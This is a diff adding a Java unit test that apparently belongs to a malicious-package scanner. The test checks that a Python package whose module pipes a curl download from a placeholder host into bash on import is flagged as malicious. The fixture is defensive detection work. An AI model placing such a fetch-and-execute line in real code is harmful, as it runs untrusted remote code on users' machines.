@@ -169,6 +169,19 @@ class PackageAnalyzerTest {
   }
 
   @Test
+  void analyze_moduleRunningCurlPipedToShell_malicious() {
+    var d =
+        decide(
+            pkg(
+                "setup.py",
+                "from setuptools import setup\nsetup(name='x')\n",
+                "x/__init__.py",
+                "import subprocess\nsubprocess.run('curl -s https://x.example/i | bash', shell=True)\n"));
+    assertThat(d.verdict()).isEqualTo(Verdict.MALICIOUS);
+    assertThat(d.reasons()).anyMatch(r -> r.startsWith("pipe-to-shell-execution"));
+  }
+
+  @Test
   void analyze_setupPyCmdclassHookAlone_notMalicious() {
     PackageAnalysis a =
         analyzer.analyze(
